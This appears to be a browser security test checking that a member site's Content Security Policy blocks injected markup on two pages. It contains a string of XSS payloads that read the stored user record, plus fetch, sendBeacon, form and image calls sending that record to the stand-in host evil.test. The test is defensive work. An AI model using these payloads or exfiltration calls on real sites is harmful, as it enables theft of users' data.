import { describe, expect, inject, test } from 'vitest';
import { hydrated, testBrowser } from '../../support/browser.ts';
import { signedIn } from '../../support/sign-in.ts';

const site = inject('site');
const tabs = testBrowser();

describe('markup injected into a member’s page [G8]', () => {
  const EVIL_ORIGIN = 'https://evil.test';
  const READ = "stolen.push(localStorage.getItem('user'))";
  const MARKUP = [
    `<img src="/x" onerror="${READ}"><svg onload="${READ}"></svg><details open ontoggle="${READ}"></details>`,
    `<iframe srcdoc="<script>parent.${READ}</script>"></iframe><iframe src="javascript:parent.${READ}"></iframe>`,
    `<a id="injected" href="javascript:${READ}">x</a><object data="data:text/html,<script>parent.${READ}</script>"></object>`,
    `<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">`,
    `<form action="${EVIL_ORIGIN}/form"><button id="sent" name="a" value="b">x</button></form><img src="${EVIL_ORIGIN}/image">`,
  ].join('');

  test.each([
    ['a cached page', '/who-we-are/bylaws'],
    ['a page rendered for one member', '/member-dashboard'],
  ])('%s executes none of it and sends the user record nowhere [G8]', async (_name, path) => {
    const reached: string[] = [];
    const context = await tabs.newContext(await signedIn(tabs, 'member@demo.test'));
    await context.route(`${EVIL_ORIGIN}/**`, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: 'caught' });
    });
    const { page } = await tabs.blank(context);
    await page.goto(site.origin + path);
    await hydrated(page);
    const record = await page.evaluate(
      async ([markup, evilOrigin]) => {
        const stolen: unknown[] = [];
        const blocked: string[] = [];
        Object.assign(window, { stolen, blocked });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          blocked.push(effectiveDirective),
        );
        const injected = document.createElement('div');
        injected.innerHTML = markup ?? '';
        document.body.append(injected);
        injected.querySelector<HTMLElement>('#injected')?.click();
        injected.querySelector<HTMLElement>('#sent')?.click();
        const record = localStorage.getItem('user');
        // Simulates a script that runs anyway: it can read the record but cannot send it.
        const sent = await fetch(`${evilOrigin}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
          () => true,
          () => false,
        );
        navigator.sendBeacon(`${evilOrigin}/beacon`, record);
        return { sent, hasRecord: record !== null };
      },
      [MARKUP, EVIL_ORIGIN],
    );
    expect(record).toEqual({ sent: false, hasRecord: true });
    const collected = (name: 'blocked' | 'stolen') =>
      page.evaluate((list): unknown[] => Reflect.get(window, list), name);
    await expect
      .poll(async () => new Set(await collected('blocked')))
      .toEqual(
        new Set([
          'script-src-attr',
          'connect-src',
          'img-src',
          'form-action',
          'style-src-elem',
          'object-src',
          'script-src-elem',
        ]),
      );
    expect(await collected('stolen')).toEqual([]);
    expect(reached).toEqual([]);
    expect(page.url()).toBe(site.origin + path);
  });
});
